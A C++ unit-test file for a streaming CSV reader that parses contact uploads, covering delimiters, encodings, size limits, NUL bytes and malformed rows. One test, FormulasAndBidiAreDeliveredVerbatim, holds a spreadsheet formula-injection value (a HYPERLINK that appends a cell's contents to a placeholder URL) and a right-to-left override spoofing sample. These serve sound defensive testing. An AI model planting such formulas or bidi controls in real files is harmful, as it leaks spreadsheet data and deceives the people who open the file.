// SPDX-License-Identifier: AGPL-3.0-or-later
// Tests for io/csv_reader: RFC 4180 streaming reader for contact uploads.
// Hostile cases (security-model.md §4 rows 12, 16, 19): formula cells and
// U+202E delivered verbatim (bidi controls flagged, marks not); NUL bytes
// flagged with their column; a 10 MB cell cut at the 1 MiB cap as a per-row
// problem while the next row still reads; an unclosed quote; ragged rows
// (short and long); UTF-8 BOM with mixed CRLF, LF and lone CR; Windows-1252
// bytes (auto-detected per row, or declared); a UTF-16 file; a BOM file
// holding non-UTF-8 bytes; too many cells; empty and header-only files; short
// reads and every chunk boundary (the same records whatever the chunk size);
// a failing read callback.
#include "io/csv_reader.h"

#include <gtest/gtest.h>

#include <random>
#include <sstream>
#include <string>
#include <vector>

namespace hotshop::io {
namespace {

struct Row {
  std::vector<std::string> cells;
  uint64_t line = 0;
  uint64_t end_line = 0;
  uint32_t issues = 0;
  bool operator==(const Row&) const = default;
};

struct Parsed {
  std::vector<std::string> header;
  std::vector<Row> rows;
  CsvStats stats;
  char delimiter = 0;
};

Parsed ParseWith(CsvReader reader) {
  Parsed p;
  p.header = reader.header();
  p.delimiter = reader.delimiter();
  CsvRecord rec;
  for (;;) {
    Result<bool> got = reader.Next(rec);
    EXPECT_TRUE(got.ok());
    if (!got.ok() || !*got) break;
    Row r;
    for (size_t i = 0; i < rec.size(); ++i) r.cells.emplace_back(rec[i]);
    r.line = rec.line();
    r.end_line = rec.end_line();
    r.issues = rec.issues();
    p.rows.push_back(std::move(r));
  }
  p.stats = reader.stats();
  return p;
}

Parsed Parse(const std::string& text, CsvOptions options = {}) {
  std::istringstream in(text);
  Result<CsvReader> reader = CsvReader::Open(in, options);
  EXPECT_TRUE(reader.ok()) << (reader.ok() ? "" : reader.error().message());
  if (!reader.ok()) return {};
  return ParseWith(std::move(*reader));
}

// A read callback that hands out at most `step` bytes per call.
CsvReader::ReadFn Trickle(const std::string& text, size_t step) {
  auto pos = std::make_shared<size_t>(0);
  return [text, step, pos](char* dst, size_t cap) -> Result<size_t> {
    const size_t n = std::min({step, cap, text.size() - *pos});
    text.copy(dst, n, *pos);
    *pos += n;
    return n;
  };
}

uint32_t Bit(CsvIssue i) { return static_cast<uint32_t>(i); }

using Cells = std::vector<std::string>;

TEST(CsvReader, ReadsHeaderAndRowsWithLineNumbers) {
  Parsed p = Parse("firstName,lastName,cell\nHannah,Clarke,7208293847\n"
                   "James,Potter,9709204873\n");
  EXPECT_EQ(p.header, (Cells{"firstName", "lastName", "cell"}));
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"Hannah", "Clarke", "7208293847"}));
  EXPECT_EQ(p.rows[0].line, 2u);
  EXPECT_EQ(p.rows[1].line, 3u);
  EXPECT_EQ(p.rows[1].issues, 0u);
  EXPECT_EQ(p.stats.records, 2u);
}

TEST(CsvReader, LastRowWithoutLineBreakIsRead) {
  Parsed p = Parse("a,b\n1,2");
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"1", "2"}));
}

TEST(CsvReader, QuotedCellsKeepDelimitersNewlinesAndDoubledQuotes) {
  Parsed p = Parse(
      "name,note\r\n\"Benton, John B Jr\",\"line one\r\nline two\"\r\n"
      "\"say \"\"hi\"\"\",\"\"\r\nnext,row\r\n");
  ASSERT_EQ(p.rows.size(), 3u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"Benton, John B Jr", "line one\r\nline two"}));
  EXPECT_EQ(p.rows[0].line, 2u);
  EXPECT_EQ(p.rows[0].end_line, 3u);
  EXPECT_EQ(p.rows[1].cells, (Cells{"say \"hi\"", ""}));
  EXPECT_EQ(p.rows[1].line, 4u);
  EXPECT_EQ(p.rows[2].line, 5u);
  EXPECT_EQ(p.rows[0].issues, 0u);
}

TEST(CsvReader, DetectsTabAndSemicolonFromHeader) {
  Parsed tsv = Parse("first\tlast\tzip\nAna\tMaría, Jr\t90210\n");
  EXPECT_EQ(tsv.delimiter, '\t');
  ASSERT_EQ(tsv.rows.size(), 1u);
  EXPECT_EQ(tsv.rows[0].cells, (Cells{"Ana", "María, Jr", "90210"}));

  Parsed semi = Parse("first;last;\"a,b\"\nAna;Lopez;x\n");
  EXPECT_EQ(semi.delimiter, ';');
  EXPECT_EQ(semi.header, (Cells{"first", "last", "a,b"}));
}

TEST(CsvReader, DelimitersInsideQuotedHeaderDoNotVote) {
  Parsed p = Parse("\"a;b;c;d\",e\n1,2\n");
  EXPECT_EQ(p.delimiter, ',');
  EXPECT_EQ(p.header, (Cells{"a;b;c;d", "e"}));
}

TEST(CsvReader, DetectionSeesTheWholeHeaderLineWhateverTheChunkSize) {
  // 20 tabs inside the first 16 bytes would fool a one-chunk look.
  const std::string header = "first\t\t\t\t\t\t\t\t\t\t,a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v\n";
  CsvOptions small;
  small.chunk_bytes = 16;
  Result<CsvReader> r = CsvReader::Open(Trickle(header + "1\n", 5), small);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->delimiter(), ',');
  EXPECT_EQ(r->header().size(), 23u);
}

TEST(CsvReader, LeadingBlankLinesDoNotHideTheHeader) {
  Parsed p = Parse("\r\n\nfirst;last\nA;B\n");
  EXPECT_EQ(p.delimiter, ';');
  EXPECT_EQ(p.header, (Cells{"first", "last"}));
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].line, 4u);
}

TEST(CsvReader, BomThenBlankLineThenHeaderIsDetectedWhateverTheReadSize) {
  // Found by csv_reader_fuzz: the BOM counted as the header's content, so
  // "BOM CR LF" looked like a whole header line and the delimiter was guessed
  // from whatever the first read had returned after it.
  const std::string text = "\xEF\xBB\xBF\r\nname\tcity\tzip\nAna\tLagos\t100001\n";
  for (size_t step : {size_t{1}, size_t{4}, size_t{5}, size_t{6}, size_t{64}}) {
    CsvOptions o;
    o.chunk_bytes = 16;
    Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
    ASSERT_TRUE(r.ok());
    EXPECT_EQ(r->delimiter(), '\t') << "step " << step;
    EXPECT_EQ(r->header(), (Cells{"name", "city", "zip"})) << "step " << step;
    EXPECT_TRUE(r->had_bom());
  }
}

TEST(CsvReader, DelimiterDetectionLooksOnlyAtTheFilesFirstWindow) {
  // The header line is looked at when it starts within max_record_bytes + 3
  // bytes (at least 19) of the file's start, whatever the reads return.
  CsvOptions o;
  o.max_cell_bytes = 8;
  o.max_record_bytes = 16;
  for (size_t blank : {size_t{3}, size_t{18}, size_t{19}, size_t{40}}) {
    const std::string text = std::string(blank, '\n') + "a;b;c\n1;2;3\n";
    const char want = blank < 19 ? ';' : ',';
    for (size_t step : {size_t{1}, size_t{7}, size_t{1} << 16}) {
      o.chunk_bytes = step == 1 ? 16 : 1 << 16;
      Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
      ASSERT_TRUE(r.ok());
      EXPECT_EQ(r->delimiter(), want) << blank << " blank lines, step " << step;
    }
  }
}

TEST(CsvReader, ExcelSepLineNamesDelimiterAndIsSkipped) {
  Parsed p = Parse("sep=;\r\nfirst;last\r\nAna;Lopez\r\n");
  EXPECT_EQ(p.delimiter, ';');
  EXPECT_EQ(p.header, (Cells{"first", "last"}));
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].line, 3u);
}

TEST(CsvReader, ForcedDelimiterWins) {
  CsvOptions o;
  o.delimiter = '|';
  Parsed p = Parse("a|b,c\n1|2,3\n", o);
  EXPECT_EQ(p.header, (Cells{"a", "b,c"}));
}

TEST(CsvReader, BomAndMixedLineEndingsAndBlankLines) {
  Parsed p = Parse("\xEF\xBB\xBF" "first,last\r\nA,B\nC,D\rE,F\r\n\r\n\nG,H");
  EXPECT_EQ(p.header, (Cells{"first", "last"}));  // BOM not in first header
  ASSERT_EQ(p.rows.size(), 4u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"A", "B"}));
  EXPECT_EQ(p.rows[1].cells, (Cells{"C", "D"}));
  EXPECT_EQ(p.rows[2].cells, (Cells{"E", "F"}));
  EXPECT_EQ(p.rows[3].cells, (Cells{"G", "H"}));
  EXPECT_EQ(p.rows[2].line, 4u);
  EXPECT_EQ(p.rows[3].line, 7u);  // two blank lines skipped, still counted
  EXPECT_EQ(p.stats.blank_lines, 2u);
  for (const Row& r : p.rows) EXPECT_EQ(r.issues, 0u);
}

TEST(CsvReader, RaggedRowsAreReturnedWithAFlag) {
  Parsed p = Parse("a,b,c\n1,2\n1,2,3,4\n1,2,3\n");
  ASSERT_EQ(p.rows.size(), 3u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"1", "2"}));
  EXPECT_EQ(p.rows[0].issues, Bit(CsvIssue::kFewerFields));
  EXPECT_EQ(p.rows[1].cells, (Cells{"1", "2", "3", "4"}));
  EXPECT_EQ(p.rows[1].issues, Bit(CsvIssue::kMoreFields));
  EXPECT_EQ(p.rows[2].issues, 0u);
  EXPECT_EQ(p.stats.ragged, 2u);
}

TEST(CsvReader, RaggedRowDescribesCountsAndCellOrPadsWithEmpty) {
  std::istringstream in("a,b,c\n1,2\n");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_FALSE(rec.damaged());
  EXPECT_EQ(rec.CellOr(2), "");
  EXPECT_EQ(rec.Describe(), "row has 2 cells but the header has 3");
}

TEST(CsvReader, TrailingDelimiterIsAnEmptyCell) {
  Parsed p = Parse("a,b,c\n1,2,\n");
  EXPECT_EQ(p.rows[0].cells, (Cells{"1", "2", ""}));
  EXPECT_EQ(p.rows[0].issues, 0u);
}

TEST(CsvReader, FormulasAndBidiAreDeliveredVerbatim) {
  const std::string formula = "=HYPERLINK(\"\"http://x/?\"\"&A2)";
  Parsed p = Parse("name,note\n\"" + formula + "\",@SUM(1)\n"
                   "\xE2\x80\xAE" "evil,+1-2\n");
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_EQ(p.rows[0].cells[0], "=HYPERLINK(\"http://x/?\"&A2)");
  EXPECT_EQ(p.rows[0].cells[1], "@SUM(1)");
  EXPECT_EQ(p.rows[0].issues, 0u);
  EXPECT_EQ(p.rows[1].cells[0], "\xE2\x80\xAE" "evil");
  // Kept, but flagged so the importer can warn (§4 row 16).
  EXPECT_EQ(p.rows[1].issues, Bit(CsvIssue::kBidiControl));
}

TEST(CsvReader, BidiControlsAreFlaggedWithColumnNotDamage) {
  std::istringstream in("name,city,note\n"
                        "Ana,Lagos,\xE2\x81\xA7" "x\xE2\x81\xA9\n"   // RLI .. PDI in column 3
                        "\xD7\xA9\xD7\xA8\xD7\x94\xE2\x80\x8F,Haifa,\n"  // Hebrew name + RLM: not flagged
                        "Bo,\xE2\x80\xAE" "sogaL,\n");              // RLO in column 2
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_TRUE(rec.has(CsvIssue::kBidiControl));
  EXPECT_FALSE(rec.damaged());
  EXPECT_EQ(rec.bidi_column(), 2u);
  EXPECT_EQ(rec.Describe(),
            "text-direction control character U+2067 in column 3 (kept as typed; it can make text "
            "around it display out of order where it is not isolated, as in a spreadsheet)");
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec.issues(), 0u);
  EXPECT_EQ(rec.bidi_column(), SIZE_MAX);
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec.bidi_column(), 1u);
  EXPECT_EQ(rec[1], "\xE2\x80\xAE" "sogaL");
  EXPECT_EQ(r->stats().bidi, 2u);
  // Windows-1252 text cannot hold one; a transcoded row is not flagged.
  Parsed latin = Parse("name\nJos\xE9 \xE2\x80\xAE\n");
  ASSERT_EQ(latin.rows.size(), 1u);
  EXPECT_EQ(latin.rows[0].issues & Bit(CsvIssue::kBidiControl), 0u);
}

TEST(CsvReader, NulBytesAreFlaggedWithTheirColumnAndKept) {
  Parsed p = Parse(std::string("a,b,c\n1,x\0y,\"q\0\"\n", 17));
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].cells[1], std::string("x\0y", 3));
  EXPECT_EQ(p.rows[0].cells[2], std::string("q\0", 2));
  EXPECT_TRUE(p.rows[0].issues & Bit(CsvIssue::kNul));
  std::istringstream in(std::string("a,b\n1,x\0\n", 9));
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec.nul_column(), 1u);
  EXPECT_EQ(rec.Describe(), "NUL byte in column 2");
  EXPECT_FALSE(rec.damaged());
}

TEST(CsvReader, TenMegabyteCellIsAPerRowErrorNotAnOutOfMemory) {
  std::string text = "name,bio,zip\nAna,\"";
  text.append(10'000'000, 'x');
  text += "\",90210\nBo,short,10001\n";
  std::istringstream in(text);
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_TRUE(rec.damaged());
  EXPECT_TRUE(rec.has(CsvIssue::kCellTooLarge));
  EXPECT_EQ(rec.issue_column(), 1u);
  EXPECT_EQ(rec[1].size(), size_t{1} << 20);  // cut at the cap, not 10 MB
  EXPECT_EQ(rec[2], "90210");                  // the rest of the row survives
  EXPECT_EQ(rec.Describe(), "cell in column 2 is over the 1048576-byte limit (cut)");
  ASSERT_TRUE(*r->Next(rec));  // and so does the next row
  EXPECT_EQ(rec[0], "Bo");
  EXPECT_EQ(rec.issues(), 0u);
  EXPECT_EQ(rec.line(), 3u);
  EXPECT_EQ(r->stats().damaged, 1u);
}

TEST(CsvReader, UnterminatedQuoteDamagesOnlyItsRowAndSaysWhichLines) {
  std::istringstream in("a,b\n1,2\n3,\"never closed\n4,5\n6,7\n");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec.issues(), 0u);
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_TRUE(rec.damaged());
  EXPECT_TRUE(rec.has(CsvIssue::kUnterminatedQuote));
  EXPECT_EQ(rec.line(), 3u);
  EXPECT_NE(rec.Describe().find("lines 3-5"), std::string::npos) << rec.Describe();
  EXPECT_FALSE(*r->Next(rec));
}

TEST(CsvReader, StrayQuotesAreKeptLiterallyAndFlagged) {
  Parsed p = Parse("a,b\n5'11\",\"x\"y\n");
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"5'11\"", "xy"}));
  EXPECT_EQ(p.rows[0].issues, Bit(CsvIssue::kStrayQuote));
}

TEST(CsvReader, Windows1252RowIsDetectedAndTranscodedPerRow) {
  Parsed p = Parse("first,last\nAlicia,Duss\xE1n\nJos\xC3\xA9,Ok\n");
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_EQ(p.rows[0].cells[1], "Duss\xC3\xA1n");
  EXPECT_EQ(p.rows[0].issues, Bit(CsvIssue::kTranscoded));
  EXPECT_EQ(p.rows[1].cells[0], "Jos\xC3\xA9");  // real UTF-8 left alone
  EXPECT_EQ(p.rows[1].issues, 0u);
  EXPECT_EQ(p.stats.transcoded, 1u);
}

TEST(CsvReader, Windows1252HeaderIsTranscoded) {
  Parsed p = Parse("Pr\xE9nom,Nom\nA,B\n");
  EXPECT_EQ(p.header[0], "Pr\xC3\xA9nom");
}

TEST(CsvReader, DeclaredWindows1252TranscodesEvenValidUtf8LookingBytes) {
  CsvOptions o;
  o.encoding = TextEncoding::kWindows1252;
  Parsed p = Parse("name\n\xC3\xA9\n", o);  // "Ã©" in 1252
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].cells[0], "\xC3\x83\xC2\xA9");
}

TEST(CsvReader, BomFileWithNonUtf8RowIsDamagedNotGuessed) {
  Parsed p = Parse("\xEF\xBB\xBF" "name\nDuss\xE1n\n");
  ASSERT_EQ(p.rows.size(), 1u);
  EXPECT_EQ(p.rows[0].issues, Bit(CsvIssue::kInvalidUtf8));
}

TEST(CsvReader, DeclaredUtf8FlagsInvalidRows) {
  CsvOptions o;
  o.encoding = TextEncoding::kUtf8;
  Parsed p = Parse("name\nDuss\xE1n\nok\n", o);
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_TRUE(p.rows[0].issues & Bit(CsvIssue::kInvalidUtf8));
  EXPECT_EQ(p.rows[1].issues, 0u);
}

TEST(CsvReader, TooManyCellsAreDroppedPastTheLimit) {
  CsvOptions o;
  o.max_fields = 4;
  o.has_header = false;
  Parsed p = Parse("1,2,3,4,5,6,7\n8\n", o);
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_EQ(p.rows[0].cells, (Cells{"1", "2", "3", "4"}));
  EXPECT_TRUE(p.rows[0].issues & Bit(CsvIssue::kTooManyFields));
  EXPECT_EQ(p.rows[1].cells, (Cells{"8"}));
}

TEST(CsvReader, RecordSizeIsCapped) {
  CsvOptions o;
  o.max_cell_bytes = 100;
  o.max_record_bytes = 250;
  o.has_header = false;
  std::string row;
  for (int i = 0; i < 10; ++i) row += std::string(90, 'a') + ",";
  Parsed p = Parse(row + "\nok\n", o);
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_TRUE(p.rows[0].issues & Bit(CsvIssue::kRecordTooLarge));
  size_t total = 0;
  for (const std::string& c : p.rows[0].cells) total += c.size();
  EXPECT_LE(total, 250u);
  EXPECT_EQ(p.rows[1].cells, (Cells{"ok"}));
}

TEST(CsvReader, CellCapSeesTheWholeCellAfterTheRecordIsCut) {
  // Found by csv_reader_fuzz: once the record was cut, a later cell's length
  // was measured by what was stored (nothing), so a cell over the cap was
  // flagged or not depending on where the reads split it.
  CsvOptions o;
  o.max_cell_bytes = 8;
  o.max_record_bytes = 16;
  o.has_header = false;
  const std::string text = "12345678,12345678,123456789\nok\n";
  for (size_t chunk : {16u, 17u, 64u}) {
    for (size_t step : {size_t{1}, size_t{5}, size_t{9}, chunk}) {
      o.chunk_bytes = chunk;
      Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
      ASSERT_TRUE(r.ok());
      CsvRecord rec;
      ASSERT_TRUE(*r->Next(rec));
      EXPECT_EQ(rec.issues(), Bit(CsvIssue::kCellTooLarge) | Bit(CsvIssue::kRecordTooLarge))
          << "chunk " << chunk << " step " << step;
      EXPECT_EQ(rec.issue_column(), 2u) << "chunk " << chunk << " step " << step;
      EXPECT_EQ(rec.size(), 3u);
      EXPECT_EQ(rec[2], "");  // the record was full
      ASSERT_TRUE(*r->Next(rec));
      EXPECT_EQ(rec[0], "ok");
    }
  }
}

TEST(CsvReader, WithoutHeaderEveryLineIsARow) {
  CsvOptions o;
  o.has_header = false;
  Parsed p = Parse("1,2\n3\n", o);
  EXPECT_TRUE(p.header.empty());
  ASSERT_EQ(p.rows.size(), 2u);
  EXPECT_EQ(p.rows[1].issues, 0u);  // no header, no ragged check
  EXPECT_EQ(p.rows[0].line, 1u);
}

TEST(CsvReader, HeaderOnlyFileHasNoRows) {
  Parsed p = Parse("firstName,lastName,cell\n");
  EXPECT_EQ(p.header.size(), 3u);
  EXPECT_TRUE(p.rows.empty());
}

TEST(CsvReader, LineOfDelimitersIsAnAllEmptyRow) {
  std::istringstream in("a,b,c\n,,\n");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec.size(), 3u);
  EXPECT_TRUE(rec.AllEmpty());
}

TEST(CsvReader, LineOfBlanksIsAnAllEmptyRowButNotOneWithText) {
  std::istringstream in("a,b,c\n  ,\t,\" \"\n   \n \t x,,\n\"\",\"\",\"\"\n");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_EQ(rec.size(), 3u);
  EXPECT_TRUE(rec.AllEmpty());  // spaces, a tab, quoted spaces
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_TRUE(rec.AllEmpty());  // a line of spaces (and a short row)
  EXPECT_TRUE(rec.has(CsvIssue::kFewerFields));
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_FALSE(rec.AllEmpty());
  ASSERT_TRUE(*r->Next(rec));
  EXPECT_TRUE(rec.AllEmpty());  // quoted empty cells
}

// Property: the records do not depend on where chunk boundaries fall or how
// short the reads are.
TEST(CsvReader, SameRecordsForEveryChunkSizeAndShortReads) {
  std::mt19937 rng(20240611);
  const char alphabet[] = {'a', 'b', ',', ';', '\t', '"', '\r', '\n', ' ',
                           '\0', '\xC3', '\xA9', '\xE1', '='};
  for (int round = 0; round < 200; ++round) {
    std::string text = "h1,h2,h3\r\n";
    const size_t len = rng() % 300;
    for (size_t i = 0; i < len; ++i) {
      text.push_back(alphabet[rng() % sizeof(alphabet)]);
    }
    CsvOptions base;
    base.chunk_bytes = 1 << 16;
    Result<CsvReader> ref_reader = CsvReader::Open(Trickle(text, 1 << 16), base);
    ASSERT_TRUE(ref_reader.ok());
    const Parsed ref = ParseWith(std::move(*ref_reader));
    for (size_t chunk : {16u, 17u, 19u, 23u, 64u}) {
      for (size_t step : {size_t{1}, size_t{3}, chunk}) {
        CsvOptions o;
        o.chunk_bytes = chunk;
        Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
        ASSERT_TRUE(r.ok());
        const Parsed got = ParseWith(std::move(*r));
        EXPECT_EQ(got.header, ref.header) << "chunk " << chunk << " step " << step;
        EXPECT_EQ(got.rows, ref.rows) << "chunk " << chunk << " step " << step;
      }
    }
  }
}

TEST(CsvReader, HundredThousandRowsStreamInFlatMemory) {
  std::string text = "firstName,lastName,cell,zip,external_id,shift,color\n";
  for (int i = 0; i < 100000; ++i) {
    text += "Ana,\"Lopez, Jr\",2135550100,90210," + std::to_string(i) +
            ",night,green\n";
  }
  CsvOptions o;
  o.chunk_bytes = 4096;
  Result<CsvReader> r = CsvReader::Open(Trickle(text, 4096), o);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  uint64_t rows = 0;
  while (*r->Next(rec)) {
    ++rows;
    ASSERT_EQ(rec.issues(), 0u);
    ASSERT_EQ(rec[1], "Lopez, Jr");
  }
  EXPECT_EQ(rows, 100000u);
  EXPECT_EQ(r->stats().bytes_read, text.size());
}

// --- Incorrect usage -------------------------------------------------------

TEST(CsvReaderIncorrectUsage, EmptyFileIsRejected) {
  std::istringstream in("");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_FALSE(r.ok());
  EXPECT_TRUE(r.error().Is(ErrorCode::kInvalidInput));
  EXPECT_EQ(r.error().field(), "file");
}

TEST(CsvReaderIncorrectUsage, BlankLinesOnlyHaveNoHeader) {
  std::istringstream in("\r\n\n");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().field(), "file");
}

TEST(CsvReaderIncorrectUsage, Utf16FileIsRejectedWithAdvice) {
  std::istringstream in(std::string("\xFF\xFE" "a\0,\0b\0", 8));
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().field(), "file");
  EXPECT_NE(r.error().message().find("UTF-16"), std::string::npos);
}

TEST(CsvReaderIncorrectUsage, DamagedHeaderIsRejected) {
  std::istringstream in(std::string("a,b\0c\n1,2\n", 11));
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().field(), "header");
  std::istringstream unclosed("a,\"b\n1,2\n");
  Result<CsvReader> r2 = CsvReader::Open(unclosed);
  ASSERT_FALSE(r2.ok());
  EXPECT_EQ(r2.error().field(), "header");
}

TEST(CsvReaderIncorrectUsage, UnusableOptionsAreRejected) {
  std::istringstream in("a\n");
  CsvOptions quote;
  quote.delimiter = '"';
  Result<CsvReader> r = CsvReader::Open(in, quote);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().field(), "delimiter");
  CsvOptions tiny;
  tiny.chunk_bytes = 1;
  Result<CsvReader> r2 = CsvReader::Open(in, tiny);
  ASSERT_FALSE(r2.ok());
  EXPECT_EQ(r2.error().field(), "options");
  Result<CsvReader> r3 = CsvReader::Open(CsvReader::ReadFn());
  ASSERT_FALSE(r3.ok());
  EXPECT_EQ(r3.error().field(), "read");
}

TEST(CsvReaderIncorrectUsage, ReadErrorsArePassedOn) {
  int calls = 0;
  CsvReader::ReadFn failing = [&calls](char* dst, size_t cap) -> Result<size_t> {
    if (++calls == 1) {
      const std::string head = "a,b\n1,";
      const size_t n = std::min(cap, head.size());
      head.copy(dst, n);
      return n;
    }
    return Error::Unavailable("connection reset");
  };
  Result<CsvReader> r = CsvReader::Open(failing);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  Result<bool> got = r->Next(rec);
  ASSERT_FALSE(got.ok());
  EXPECT_TRUE(got.error().Is(ErrorCode::kUnavailable));
}

TEST(CsvReaderIncorrectUsage, NextAfterEndKeepsReturningFalse) {
  std::istringstream in("a\n1\n");
  Result<CsvReader> r = CsvReader::Open(in);
  ASSERT_TRUE(r.ok());
  CsvRecord rec;
  EXPECT_TRUE(*r->Next(rec));
  EXPECT_FALSE(*r->Next(rec));
  EXPECT_FALSE(*r->Next(rec));
  EXPECT_EQ(rec.size(), 0u);
}

}  // namespace
}  // namespace hotshop::io
